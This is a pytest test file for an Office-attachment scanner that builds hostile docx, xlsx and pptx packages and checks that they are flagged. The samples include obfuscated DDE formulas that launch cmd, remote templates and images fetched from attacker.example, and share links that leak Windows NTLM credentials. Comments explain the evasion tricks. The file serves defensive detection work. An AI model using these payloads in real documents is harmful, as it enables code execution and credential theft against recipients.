"""The OPC package reader: packages built here (as Office, python-docx, python-pptx and openpyxl
write them, and hostile variants of each) and oletools' real samples."""

from __future__ import annotations

import base64
import io
import time
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path
from xml.etree import ElementTree

import pytest

from attachguard.formats import opc
from attachguard.formats.ooxml_xml import is_dde_formula, read_part
from attachguard.formats.opc import (
    Embedded,
    EmbeddedKind,
    OpcKind,
    OpcProblem,
    PackageReport,
    analyse_package,
    flat_package,
    read_package,
    resolve,
    target_kind,
)
from support.evasions import CASES, Case
from support.oletools_data import ole_file, ole_native, read_sample, rels_xml

MS = "http://schemas.microsoft.com/office/2006/relationships/"
ACTIVEX = "http://schemas.microsoft.com/office/2006/activeX"
OOXML = "application/vnd.openxmlformats-officedocument."
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
STRICT_S = "http://purl.oclc.org/ooxml/spreadsheetml/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
A = "http://schemas.openxmlformats.org/drawingml/2006/main"
P = "http://schemas.openxmlformats.org/presentationml/2006/main"
C = "http://schemas.openxmlformats.org/drawingml/2006/chart"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
SHEET_TYPE = f"{OOXML}spreadsheetml.worksheet+xml"
COMMAND = "cmd|'/c calc'!A1"

Parts = Mapping[str, bytes | str]


# -- builders ------------------------------------------------------------------------------------


def package(
    parts: Parts, overrides: dict[str, str], defaults: dict[str, str] | None = None
) -> bytes:
    """A zip holding ``[Content_Types].xml`` (Defaults for rels, xml, png, jpeg and
    ``defaults``; an Override for each of ``overrides``) and ``parts``, in order."""
    declared = {
        "rels": "application/vnd.openxmlformats-package.relationships+xml",
        "xml": "application/xml",
        "png": "image/png",
        "jpeg": "image/jpeg",
        **(defaults or {}),
    }
    types = (
        f'{XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        + "".join(f'<Default Extension="{e}" ContentType="{t}"/>' for e, t in declared.items())
        + "".join(f'<Override PartName="/{n}" ContentType="{t}"/>' for n, t in overrides.items())
        + "</Types>"
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", types)
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def doc_props() -> tuple[Parts, dict[str, str]]:
    core = (
        f'{XML}<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/'
        'metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/">'
        "<dc:title>Order 4711</dc:title><dc:creator>python-docx</dc:creator>"
        "</cp:coreProperties>"
    )
    app = (
        f'{XML}<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/'
        'extended-properties"><Application>Microsoft Office Word</Application></Properties>'
    )
    parts: Parts = {"docProps/core.xml": core, "docProps/app.xml": app}
    types = {
        "docProps/core.xml": "application/vnd.openxmlformats-package.core-properties+xml",
        "docProps/app.xml": f"{OOXML}extended-properties+xml",
    }
    return parts, types


def root_rels(main: str) -> bytes:
    return rels_xml(
        [
            ("officeDocument", main, False),
            ("http://schemas.openxmlformats.org/package/2006/relationships/metadata/"
             "core-properties", "docProps/core.xml", False),
            ("extended-properties", "docProps/app.xml", False),
        ]
    )  # fmt: skip


def docx(
    body: str = "<w:p><w:r><w:t>Your order has shipped.</w:t></w:r></w:p>",
    rels: list[tuple[str, str, bool]] | None = None,
    parts: Parts | None = None,
    overrides: dict[str, str] | None = None,
) -> bytes:
    """A Word document as python-docx writes one: document, styles, settings, header."""
    spaces = f'xmlns:w="{W}" xmlns:r="{R}" xmlns:a="{A}"'
    props, prop_types = doc_props()
    document = (
        f"{XML}<w:document {spaces}><w:body>{body}"
        '<w:sectPr><w:headerReference w:type="default" r:id="rId3"/></w:sectPr>'
        "</w:body></w:document>"
    )
    header = f"{XML}<w:hdr {spaces}><w:p><w:r><w:t>ACME</w:t></w:r></w:p></w:hdr>"
    base = [("styles", "styles.xml", False), ("settings", "settings.xml", False),
            ("header", "header1.xml", False)]  # fmt: skip
    all_parts: dict[str, bytes | str] = {
        "_rels/.rels": root_rels("word/document.xml"),
        "word/document.xml": document,
        "word/_rels/document.xml.rels": rels_xml(base + (rels or [])),
        "word/styles.xml": f'{XML}<w:styles xmlns:w="{W}"/>',
        "word/settings.xml": f'{XML}<w:settings xmlns:w="{W}"/>',
        "word/header1.xml": header,
        **props,
        **(parts or {}),
    }
    types = {
        "word/document.xml": f"{OOXML}wordprocessingml.document.main+xml",
        "word/styles.xml": f"{OOXML}wordprocessingml.styles+xml",
        "word/settings.xml": f"{OOXML}wordprocessingml.settings+xml",
        "word/header1.xml": f"{OOXML}wordprocessingml.header+xml",
        **prop_types,
        **(overrides or {}),
    }
    return package(all_parts, types)


def worksheet(cells: str = '<c r="A1"><v>42</v></c><c r="B1"><f>A1*2</f><v>84</v></c>') -> str:
    return f'{XML}<worksheet xmlns="{S}" xmlns:r="{R}"><sheetData><row r="1">{cells}</row>' + (
        "</sheetData></worksheet>"
    )


def prefixed_sheet(formula: str) -> str:
    """A worksheet written with the prefix ``x:`` for SpreadsheetML."""
    return (
        f'{XML}<x:worksheet xmlns:x="{S}"><x:sheetData><x:row r="1"><x:c r="B1"><x:f>{formula}'
        "</x:f></x:c></x:row></x:sheetData></x:worksheet>"
    )


def formula_sheet(formula: str) -> str:
    """A worksheet whose B1 holds ``formula``, already written as XML."""
    return worksheet(f'<c r="A1"><v>1</v></c><c r="B1"><f>{formula}</f><v>0</v></c>')


def xlsx(
    sheet: str | bytes | None = None,
    *,
    sheet_part: str = "xl/worksheets/sheet1.xml",
    rels: list[tuple[str, str, bool]] | None = None,
    parts: Parts | None = None,
    overrides: dict[str, str] | None = None,
    names: str = "",
    main_type: str = f"{OOXML}spreadsheetml.sheet.main+xml",
) -> bytes:
    """An Excel workbook as openpyxl writes one, its sheet ``sheet`` stored at ``sheet_part``
    (reached from the workbook by an absolute target), more relationships and parts."""
    props, prop_types = doc_props()
    workbook = (
        f'{XML}<workbook xmlns="{S}" xmlns:r="{R}"><sheets><sheet name="Orders" sheetId="1" '
        f'r:id="rId1"/></sheets>{names}<calcPr calcId="124519"/></workbook>'
    )
    sst = f'{XML}<sst xmlns="{S}" count="1" uniqueCount="1"><si><t>Order</t></si></sst>'
    all_parts: dict[str, bytes | str] = {
        "_rels/.rels": root_rels("xl/workbook.xml"),
        "xl/workbook.xml": workbook,
        "xl/_rels/workbook.xml.rels": rels_xml(
            [
                ("worksheet", "/" + sheet_part, False),
                ("styles", "styles.xml", False),
                ("sharedStrings", "sharedStrings.xml", False),
                *(rels or []),
            ]
        ),
        sheet_part: worksheet() if sheet is None else sheet,
        "xl/styles.xml": f'{XML}<styleSheet xmlns="{S}"/>',
        "xl/sharedStrings.xml": sst,
        **props,
        **(parts or {}),
    }
    types = {
        "xl/workbook.xml": main_type,
        sheet_part: SHEET_TYPE,
        "xl/styles.xml": f"{OOXML}spreadsheetml.styles+xml",
        "xl/sharedStrings.xml": f"{OOXML}spreadsheetml.sharedStrings+xml",
        **prop_types,
        **(overrides or {}),
    }
    return package(all_parts, types)


def slide_xml(shape: str = "") -> str:
    spaces = f'xmlns:p="{P}" xmlns:a="{A}" xmlns:r="{R}"'
    return (
        f'{XML}<p:sld {spaces}><p:cSld><p:spTree><p:nvGrpSpPr><p:cNvPr id="1" name=""/>'
        "<p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/><p:sp><p:nvSpPr>"
        f'<p:cNvPr id="2" name="Button">{shape}</p:cNvPr><p:cNvSpPr/><p:nvPr/></p:nvSpPr>'
        "<p:spPr/><p:txBody><a:bodyPr/><a:p><a:r><a:t>Track your order</a:t></a:r></a:p>"
        "</p:txBody></p:sp></p:spTree></p:cSld></p:sld>"
    )


def pptx(
    shape: str = "",
    rels: list[tuple[str, str, bool]] | None = None,
    parts: Parts | None = None,
    overrides: dict[str, str] | None = None,
) -> bytes:
    """A presentation as python-pptx writes one (master, layout, theme, one slide whose button
    shape carries ``shape``; the slide's relationships after its layout are ``rels``)."""
    spaces = f'xmlns:p="{P}" xmlns:a="{A}" xmlns:r="{R}"'
    props, prop_types = doc_props()
    deck = (
        f'{XML}<p:presentation {spaces}><p:sldMasterIdLst><p:sldMasterId id="2147483648" '
        'r:id="rId1"/></p:sldMasterIdLst><p:sldIdLst><p:sldId id="256" r:id="rId2"/>'
        '</p:sldIdLst><p:sldSz cx="9144000" cy="6858000"/></p:presentation>'
    )
    master = f"{XML}<p:sldMaster {spaces}><p:cSld><p:spTree/></p:cSld></p:sldMaster>"
    layout = f"{XML}<p:sldLayout {spaces}><p:cSld><p:spTree/></p:cSld></p:sldLayout>"
    theme = f'{XML}<a:theme xmlns:a="{A}" name="Office Theme"><a:themeElements/></a:theme>'
    all_parts: dict[str, bytes | str] = {
        "_rels/.rels": root_rels("ppt/presentation.xml"),
        "ppt/presentation.xml": deck,
        "ppt/_rels/presentation.xml.rels": rels_xml(
            [
                ("slideMaster", "slideMasters/slideMaster1.xml", False),
                ("slide", "slides/slide1.xml", False),
                ("theme", "theme/theme1.xml", False),
            ]
        ),
        "ppt/slideMasters/slideMaster1.xml": master,
        "ppt/slideMasters/_rels/slideMaster1.xml.rels": rels_xml(
            [
                ("slideLayout", "../slideLayouts/slideLayout1.xml", False),
                ("theme", "../theme/theme1.xml", False),
            ]
        ),
        "ppt/slideLayouts/slideLayout1.xml": layout,
        "ppt/slideLayouts/_rels/slideLayout1.xml.rels": rels_xml(
            [("slideMaster", "../slideMasters/slideMaster1.xml", False)]
        ),
        "ppt/theme/theme1.xml": theme,
        "ppt/slides/slide1.xml": slide_xml(shape),
        "ppt/slides/_rels/slide1.xml.rels": rels_xml(
            [("slideLayout", "../slideLayouts/slideLayout1.xml", False), *(rels or [])]
        ),
        **props,
        **(parts or {}),
    }
    types = {
        "ppt/presentation.xml": f"{OOXML}presentationml.presentation.main+xml",
        "ppt/slideMasters/slideMaster1.xml": f"{OOXML}presentationml.slideMaster+xml",
        "ppt/slideLayouts/slideLayout1.xml": f"{OOXML}presentationml.slideLayout+xml",
        "ppt/theme/theme1.xml": f"{OOXML}theme+xml",
        "ppt/slides/slide1.xml": f"{OOXML}presentationml.slide+xml",
        **prop_types,
        **(overrides or {}),
    }
    return package(all_parts, types)


def rewrite(data: bytes, name: str, change: Callable[[bytes], bytes]) -> bytes:
    """The zip ``data`` with its member ``name`` changed."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w") as new:
        for info in old.infolist():
            content = old.read(info)
            new.writestr(info, change(content) if info.filename == name else content)
    return out.getvalue()


def threats(report: PackageReport) -> list[tuple[OpcKind, str, str]]:
    """(kind, location, label) of every problem that is not informational."""
    return [(p.kind, p.location, p.label) for p in report.problems if not p.kind.info]


def info(report: PackageReport) -> list[tuple[OpcKind, str]]:
    return [(p.kind, p.location) for p in report.problems if p.kind.info]


# -- benign packages ---------------------------------------------------------------------------


@pytest.mark.parametrize("build", [docx, xlsx, pptx], ids=["docx", "xlsx", "pptx"])
def test_documents_as_libraries_write_them_have_no_problems(build: Callable[[], bytes]) -> None:
    report = analyse_package(build())
    assert report.problems == ()
    assert report.vba_parts == () and report.embedded == ()


def test_parts_are_reached_through_relationships_with_their_content_types() -> None:
    package = read_package(zipfile.ZipFile(io.BytesIO(xlsx())))  # an open zip, or bytes
    main = package.main
    assert main is not None and main.name == "xl/workbook.xml"
    sheet = package.part("/XL/Worksheets/Sheet1.xml")  # OPC compares names without case
    assert sheet is not None
    assert sheet.content_type == SHEET_TYPE
    assert sheet.reached_by == (f"{R}/worksheet",)
    styles = package.part("xl/styles.xml")
    assert styles is not None and styles.content_type == f"{OOXML}spreadsheetml.styles+xml"
    assert package.parts_of_kind(SHEET_TYPE) == [sheet]


def test_word_parts_are_listed_for_field_analysis() -> None:
    # a header at an unusual path, its content type only the xml Default: its root says Word
    parts: Parts = {"word/odd/place.xml": f'{XML}<w:ftr xmlns:w="{W}"/>'}
    report = analyse_package(docx(rels=[("footer", "odd/place.xml", False)], parts=parts))
    assert report.problems == ()
    assert set(report.word_parts) == {
        "word/document.xml", "word/styles.xml", "word/settings.xml", "word/header1.xml",
        "word/odd/place.xml",
    }  # fmt: skip


# -- relationship targets ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("source", "target", "expected"),
    [
        ("word/document.xml", "media/image1.png", "word/media/image1.png"),
        ("word/document.xml", "../customXml/item1.xml", "customxml/item1.xml"),
        ("word/document.xml", "/xl/x.xml", "xl/x.xml"),
        ("word/document.xml", "media/image%201.png", "word/media/image 1.png"),
        ("word/document.xml", "media/Image1.PNG#frag", "word/media/image1.png"),
        ("word/document.xml", "..\\media\\a.png", "media/a.png"),
        ("word/document.xml", "../../../../x.xml", "x.xml"),
        ("", "word/document.xml", "word/document.xml"),
        ("word/document.xml", "https://example.com/x.png", None),
        ("word/document.xml", "\\\\host\\share\\x.png", None),
        ("word/document.xml", "C:\\x.png", None),
        ("word/document.xml", "#bookmark", None),
    ],
)
def test_targets_resolve_against_their_source(source: str, target: str, expected: str) -> None:
    assert resolve(source, target) == expected


@pytest.mark.parametrize(
    ("target", "kind"),
    [
        ("https://attacker.example/t.dotm", "remote"),
        ("ftp://attacker.example/t.dotm", "remote"),
        ("\\\\attacker.example\\share\\t.dotm", "remote"),
        ("//attacker.example/share/t.dotm", "remote"),
        ("file://attacker.example/share/t.dotm", "remote"),
        ("file:////attacker.example/share/t.dotm", "remote"),
        ("mhtml:https://attacker.example/x!x-usc:https://attacker.example/y", "remote"),
        ("%5c%5cattacker.example%5cshare", "remote"),
        ("  \t\\\\attacker.example\\share", "remote"),
        # Windows' own namespaces: a share behind them, or a device
        ("\\??\\UNC\\attacker.example\\share\\t.dotx", "remote"),
        ("\\\\?\\UNC\\attacker.example\\share\\t.dotx", "remote"),
        ("\\??\\GLOBALROOT\\Device\\Mup\\attacker.example\\share\\t.dotx", "remote"),
        ("\\\\.\\pipe\\x", "remote"),
        ("\\\\.\\C:\\..\\UNC\\attacker.example\\share\\t.dotx", "remote"),  # ".." climbs
        ("/\\attacker.example\\share\\t.dotx", "remote"),
        ("\\\\?\\C:\\Users\\me\\Templates\\Letter.dotx", "local"),
        ("\\??\\C:\\Users\\me\\Templates\\Letter.dotx", "local"),
        ("file:///C:/Users/me/Templates/Letter.dotx", "local"),
        # a drive where the host would be, as ReportLab writes a local link: no host name
        # holds a colon or a bar
        ("file://C:\\Users\\me\\Desktop\\doc.pdf", "local"),
        ("file://C|/Users/me/doc.pdf", "local"),
        ("file://cc:/Users/me/doc.pdf", "remote"),
        ("C:\\Users\\me\\Book2.xlsx", "local"),
        ("\\Windows\\System32\\calc.exe", "local"),
        ("..\\..\\Windows\\System32\\calc.exe", "local"),
        ("mailto:orders@shop.example", "mail"),
        ("Book2.xlsx", "relative"),
        ("Budgets/2024.xlsx", "relative"),
    ],
)
def test_link_targets_are_classified(target: str, kind: str) -> None:
    assert target_kind(target) == kind


# -- DDE in spreadsheets -----------------------------------------------------------------------


def test_dde_formula_in_a_sheet_reached_only_through_relationships() -> None:
    data = xlsx(formula_sheet(COMMAND.replace("'", "&apos;")), sheet_part="xl/foo/bar.bin.xml")
    report = analyse_package(data)
    assert threats(report) == [(OpcKind.DDE, "xl/foo/bar.bin.xml", "formula")]
    [problem] = report.problems
    assert problem.message == "a formula that starts another program through DDE"
    assert "calc" not in repr(problem)  # the formula is file content: never in a problem


@pytest.mark.parametrize(
    "sheet",
    [
        prefixed_sheet(COMMAND),
        formula_sheet("cmd&#124;'/c calc'!A1"),
        formula_sheet("cmd&#x7C;'/c calc'!A1"),
        formula_sheet("<![CDATA[cmd|'/c calc'!A1]]>"),
        formula_sheet("cmd<![CDATA[|]]>'/c calc'!A1"),
        formula_sheet("MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''"),
        formula_sheet("@SUM(1+1)*cmd|' /C calc'!A0"),
        formula_sheet("cmd |  '/c calc'!A1"),
        formula_sheet("'cmd'|'/c calc'!A1"),
        formula_sheet('IF(1,"x",cmd|\'/c calc\'!A1)'),
        formula_sheet('"unterminated|'),
        worksheet(f"<c r='B1'><f>{COMMAND}</f></c>").replace(S, STRICT_S),
    ],
    ids=["prefixed", "char-ref", "hex-char-ref", "cdata", "cdata-pipe", "msexcel", "after-sum",
         "spaces", "quoted-app", "in-if", "unterminated", "strict"],
)  # fmt: skip
def test_dde_formula_however_written(sheet: str) -> None:
    report = analyse_package(xlsx(sheet))
    assert threats(report) == [(OpcKind.DDE, "xl/worksheets/sheet1.xml", "formula")]


def test_dde_formula_after_blanks() -> None:
    # without an XML declaration, XML may begin with any number of blanks
    sheet = " \r\n" * 100 + formula_sheet(COMMAND).removeprefix(XML)
    report = analyse_package(xlsx(sheet))
    assert threats(report) == [(OpcKind.DDE, "xl/worksheets/sheet1.xml", "formula")]


def test_dde_formula_in_utf16() -> None:
    sheet = formula_sheet(COMMAND).replace('encoding="UTF-8"', 'encoding="UTF-16"')
    report = analyse_package(xlsx(sheet.encode("utf-16")))
    assert threats(report) == [(OpcKind.DDE, "xl/worksheets/sheet1.xml", "formula")]


@pytest.mark.parametrize(
    ("names", "cells"),
    [
        (f'<definedNames><definedName name="x">{COMMAND}</definedName></definedNames>', ""),
        ("", f"</row></sheetData><conditionalFormatting sqref='A1'><cfRule type='expression' "
             f"priority='1'><formula>{COMMAND}</formula></cfRule></conditionalFormatting>"
             "<sheetData><row r='2'>"),
    ],
    ids=["defined-name", "conditional-format"],
)  # fmt: skip
def test_dde_in_other_formulas(names: str, cells: str) -> None:
    report = analyse_package(xlsx(worksheet(cells) if cells else None, names=names))
    where = "xl/workbook.xml" if names else "xl/worksheets/sheet1.xml"
    assert threats(report) == [(OpcKind.DDE, where, "formula")]


@pytest.mark.parametrize(
    "sheet",
    [
        formula_sheet('"a|b"'),
        formula_sheet('IF(A1="x|y",1,0)'),
        formula_sheet("SUM('Q1|Q2'!A1:A3)"),
        formula_sheet("SUM(Table1[a|b])"),
        formula_sheet("SUM(Table1[[#This Row],[a|b]])"),
        worksheet('<c r="A1" t="inlineStr"><is><t>cmd|\'/c calc\'!A1</t></is></c>'),
        worksheet(f"<c r='A1'><v>{COMMAND}</v></c>"),
        worksheet(f'<c r="A1"><f xmlns="urn:not-excel">{COMMAND}</f></c>'),
    ],
    ids=["literal", "literal-in-if", "quoted-sheet", "table-column", "structured-ref",
         "text-cell", "value", "foreign-namespace"],
)  # fmt: skip
def test_pipes_that_are_not_dde(sheet: str) -> None:
    assert analyse_package(xlsx(sheet)).problems == ()


def test_dde_command_in_shared_strings_is_text() -> None:
    sst = f'{XML}<sst xmlns="{S}"><si><t>{COMMAND}</t></si></sst>'
    assert analyse_package(xlsx(parts={"xl/sharedStrings.xml": sst})).problems == ()


@pytest.mark.parametrize(("element", "label"), [("ddeLink", "ddeLink"), ("oleLink", "oleLink")])
def test_external_link_part_at_an_unusual_path(element: str, label: str) -> None:
    link = (
        f'{XML}<externalLink xmlns="{S}"><{element} ddeService="cmd" ddeTopic="/c calc" '
        'progId="Package"/></externalLink>'
    )
    data = xlsx(rels=[("externalLink", "../links/l1.xml", False)], parts={"links/l1.xml": link})
    assert threats(analyse_package(data)) == [(OpcKind.DDE, "links/l1.xml", label)]


def test_external_link_to_a_workbook_beside_the_document_is_not_dde() -> None:
    link = (
        f'{XML}<externalLink xmlns="{S}"><externalBook r:id="rId1" xmlns:r="{R}"/></externalLink>'
    )
    parts: Parts = {
        "xl/externalLinks/externalLink1.xml": link,
        "xl/externalLinks/_rels/externalLink1.xml.rels": rels_xml(
            [("externalLinkPath", "Book2.xlsx", True)]
        ),
    }
    rels = [("externalLink", "externalLinks/externalLink1.xml", False)]
    assert analyse_package(xlsx(rels=rels, parts=parts)).problems == ()


def test_unreachable_sheet_is_information_only() -> None:
    # Excel never reads a part that no relationship reaches, whatever its name says
    data = xlsx(parts={"xl/worksheets/sheet2.xml": formula_sheet(COMMAND)})
    report = analyse_package(data)
    assert threats(report) == []
    assert info(report) == [(OpcKind.UNREACHABLE, "xl/worksheets/sheet2.xml")]


@pytest.mark.parametrize(
    "formula",
    [COMMAND, "=cmd|'/c calc'!A1", "a&b|c!d", "'x'|'y'!z", '"open|', "[a]x|y!z"],
)
def test_is_dde_formula(formula: str) -> None:
    assert is_dde_formula(formula)


@pytest.mark.parametrize(
    "formula",
    ['"' * 32_001 + "|", "'" * 32_001 + "|", "[" * 32_000 + "|", '"a' * 16_000 + "|"],
    ids=["quotes", "apostrophes", "brackets", "open-strings"],
)
def test_hostile_formulas_are_checked_in_linear_time(formula: str) -> None:
    start = time.process_time()
    is_dde_formula(formula)
    assert time.process_time() - start < 2  # a guard against blow-ups, not a benchmark


@pytest.mark.parametrize(
    "formula", ["A1*2", '"a|b"', "'a|b'!A1", "T[x|y]", 'CONCAT("|",A1)', '"say ""|"" ok"', ""]
)
def test_is_not_dde_formula(formula: str) -> None:
    assert not is_dde_formula(formula)


SHARED_BOOK = "'\\\\attacker.example\\share\\[Book2.xlsx]Sheet1'!A1"


@pytest.mark.parametrize(
    ("sheet", "names"),
    [
        (formula_sheet(SHARED_BOOK), ""),
        (formula_sheet("SUM(" + SHARED_BOOK + ",2)"), ""),
        (formula_sheet(SHARED_BOOK.replace("\\", "&#92;")), ""),
        (formula_sheet("'http://attacker.example/[Book2.xlsx]Sheet1'!A1"), ""),
        (formula_sheet("'\\\\attacker.example\\share\\Book2.xlsx'!Total"), ""),
        (None, f'<definedNames><definedName name="x">{SHARED_BOOK}</definedName></definedNames>'),
    ],
    ids=["cell", "inside-a-call", "char-refs", "url", "defined-name-of-a-book", "defined-name"],
)
def test_a_formula_that_opens_a_workbook_on_a_share(sheet: str | None, names: str) -> None:
    # Excel opens the workbook to compute the cell, sending the share the reader's Windows
    # credentials; the red team's formulas named no externalLink part and passed
    report = analyse_package(xlsx(sheet, names=names))
    where = "xl/workbook.xml" if names else "xl/worksheets/sheet1.xml"
    assert threats(report) == [(OpcKind.EXTERNAL_LINK, where, "formula")]


@pytest.mark.parametrize(
    "sheet",
    [
        formula_sheet("&apos;http://attacker.example/[Book2.xlsx]Sheet1&apos;!A1"),
        formula_sheet("'\\<![CDATA[\\]]>attacker.example\\s\\[Book2.xlsx]Sheet1'!A1"),
        formula_sheet("'//attacker.example/s/[Book2.xlsx]Sheet1'!A1"),
        formula_sheet('HYPERLINK("\\\\attacker.example\\s\\x.xlsx","Your invoice")'),
        formula_sheet('hyperlink("//attacker.example/s/x.xlsx")'),
    ],
    ids=["entity-quotes", "cdata-split", "forward-slashes", "hyperlink-share", "hyperlink-lower"],
)
def test_a_formula_that_reaches_a_share_however_spelt(sheet: str) -> None:
    # the byte search that decides whether a part's formulas are read missed these spellings
    report = analyse_package(xlsx(sheet))
    assert threats(report) == [(OpcKind.EXTERNAL_LINK, "xl/worksheets/sheet1.xml", "formula")]


@pytest.mark.parametrize(
    "formula",
    ["[1]Sheet1!A1", "SUM('Q1 2026'!A1:A3)", '"\\\\host\\x!"', "Table1[[#This Row],[Price]]*2"],
    ids=["external-link-index", "quoted-sheet", "text-constant", "structured-reference"],
)
def test_formulas_that_open_no_other_workbook(formula: str) -> None:
    assert threats(analyse_package(xlsx(formula_sheet(formula)))) == []


# -- macros --------------------------------------------------------------------------------------


MACRO_SHEET = (
    f'{XML}<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>'
)


def test_macro_sheet_at_an_unusual_path() -> None:
    rels = [(f"{MS}xlMacrosheet", "hidden/x.xml", False)]
    data = xlsx(rels=rels, parts={"xl/hidden/x.xml": MACRO_SHEET})
    report = analyse_package(data)
    assert threats(report) == [(OpcKind.XLM, "xl/hidden/x.xml", "")]
    assert report.problems[0].message == "an Excel 4 (XLM) macro sheet"


def test_macro_sheet_by_content_type_or_root_element() -> None:
    # reached as a worksheet, but its content type (or its root element) says macro sheet
    by_type = xlsx(MACRO_SHEET, overrides={
        "xl/worksheets/sheet1.xml": "application/vnd.ms-excel.macrosheet+xml"})  # fmt: skip
    by_root = xlsx(MACRO_SHEET)
    for data in (by_type, by_root):
        assert threats(analyse_package(data)) == [(OpcKind.XLM, "xl/worksheets/sheet1.xml", "")]


def vba_project() -> bytes:
    return ole_file({"PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\n'})


def test_vba_project_at_an_unusual_path_is_handed_back() -> None:
    rels = [(f"{MS}vbaProject", "media/logo.png", False)]
    data = xlsx(rels=rels, parts={"xl/media/logo.png": vba_project()})
    report = analyse_package(data)
    assert threats(report) == [(OpcKind.VBA, "xl/media/logo.png", "")]
    assert report.vba_parts == ("xl/media/logo.png",)
    assert report.embedded == ()  # an OLE file, but not an embedded object
    assert report.package.read(report.vba_parts[0]) == vba_project()


def test_vba_project_by_content_type() -> None:
    rels = [("customData", "stuff.bin", False)]
    overrides = {"xl/stuff.bin": "application/vnd.ms-office.vbaProject"}
    data = xlsx(rels=rels, parts={"xl/stuff.bin": vba_project()}, overrides=overrides)
    assert analyse_package(data).vba_parts == ("xl/stuff.bin",)


def test_activex_control_is_reported_once() -> None:
    control = f'{XML}<ax:ocx xmlns:ax="{ACTIVEX}" ax:classid="{{8BD21D40-EC42-11CE-9E0D}}"/>'
    parts: Parts = {
        "word/activeX/activeX1.xml": control,
        "word/activeX/_rels/activeX1.xml.rels": rels_xml(
            [(f"{MS}activeXControlBinary", "activeX1.bin", False)]
        ),
        "word/activeX/activeX1.bin": ole_file({"Contents": b"\x00" * 16}),
    }
    overrides = {"word/activeX/activeX1.xml": "application/vnd.ms-office.activeX+xml"}
    report = analyse_package(docx(rels=[("control", "activeX/activeX1.xml", False)],
                                  parts=parts, overrides=overrides))  # fmt: skip
    assert threats(report) == [(OpcKind.ACTIVEX, "word/activeX/activeX1.xml", "")]
    assert report.embedded == ()


# -- external relationships --------------------------------------------------------------------


def settings_rels(rels: list[tuple[str, str, bool]]) -> bytes:
    return docx(parts={"word/_rels/settings.xml.rels": rels_xml(rels)})


def test_remote_template() -> None:
    report = analyse_package(
        settings_rels([("attachedTemplate", "http://attacker.example/t.dotm", True)])
    )
    assert threats(report) == [
        (OpcKind.EXTERNAL_LINK, "word/_rels/settings.xml.rels", "attachedTemplate")
    ]
    assert (
        report.problems[0].message == "a template loaded from outside the file (a network address)"
    )
    assert "attacker" not in repr(report.problems)


@pytest.mark.parametrize(
    ("rel_type", "target"),
    [
        ("image", "\\\\attacker.example\\share\\logo.png"),
        ("frame", "https://attacker.example/frame.html"),
        ("subDocument", "file://attacker.example/share/part.docx"),
        ("oleObject", "mhtml:https://attacker.example/x!x-usc:https://attacker.example/y"),
        ("package", "C:\\Windows\\System32\\calc.exe"),
        ("externalLinkPath", "//attacker.example/share/Book2.xlsx"),
        ("http://example.com/relationships/webTracker", "https://attacker.example/pixel.gif"),
        ("attachedTemplate", "\\\\attacker.example\\share\\t.dotm"),
    ],
)
def test_external_relationships_that_office_follows(rel_type: str, target: str) -> None:
    report = analyse_package(docx(rels=[(rel_type, target, True)]))
    label = rel_type.rsplit("/", 1)[-1]
    assert threats(report) == [(OpcKind.EXTERNAL_LINK, "word/_rels/document.xml.rels", label)]


@pytest.mark.parametrize(
    "target",
    [
        "\\\\fileserver\\orders\\4711.pdf",
        "file://fileserver/orders/4711.pdf",
        "\\??\\UNC\\fileserver\\orders\\4711.pdf",
        "\\\\attacker.example@SSL\\DavWWWRoot\\x.docx",
        "search-ms:query=invoice&amp;crumb=location:%5C%5Cattacker.example%5Cs",  # (XML-escaped)
        "ms-word:ofe|u|\\\\attacker.example\\s\\x.docx",
    ],
)
def test_a_hyperlink_to_a_network_share(target: str) -> None:
    # a click alone sends the reader's Windows credentials to the share (ntlm_theft's .xlsx
    # and a red team's .pptx were approved): a PDF link there is rejected, and so is this one
    report = analyse_package(docx(rels=[("hyperlink", target, True)]))
    assert threats(report) == [(OpcKind.EXTERNAL_LINK, "word/_rels/document.xml.rels", "hyperlink")]


@pytest.mark.parametrize(
    ("body", "flagged"),
    [
        ('<w:p><w:r><w:drawing><a:blip r:link="rId4"/></w:drawing></w:r></w:p>', True),
        ('<w:p><w:hyperlink r:id="rId4"><w:r><w:t>our site</w:t></w:r></w:hyperlink></w:p>', False),
        (
            '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata '
            'xmlns:o="urn:schemas-microsoft-com:office:office" o:relid="rId4"/></v:shape></w:pict>'
            "</w:r></w:p>",
            True,
        ),
        ("<w:p><w:r><w:t>nothing names it</w:t></w:r></w:p>", False),
    ],
    ids=["picture-link", "hyperlink", "vml-relid", "unused"],
)
def test_a_hyperlink_relationship_that_a_picture_loads(body: str, flagged: bool) -> None:
    # typed as a hyperlink (allowed: a click away), named by a picture's r:link: if Office
    # does not check the type, it loads the picture from the URL when the document opens
    rels = [("hyperlink", "https://attacker.example/p.png", True)]
    report = analyse_package(docx(body, rels=rels))
    found = [(OpcKind.EXTERNAL_LINK, "word/_rels/document.xml.rels", "hyperlink")]
    assert threats(report) == (found if flagged else [])


WE = "http://schemas.microsoft.com/office/webextensions/webextension/2010/11"


@pytest.mark.parametrize(
    ("store", "store_type", "flagged"),
    [
        ("\\\\attacker.example\\share", "FileSystem", True),
        ("file://attacker.example/share", "FileSystem", True),
        ("en-US", "OMEX", False),  # the Office store's add-in, by its market
        ("https://contoso.sharepoint.com/sites/AppCatalog", "SPCatalog", False),
    ],
)
def test_an_add_in_loaded_from_a_network_share(store: str, store_type: str, flagged: bool) -> None:
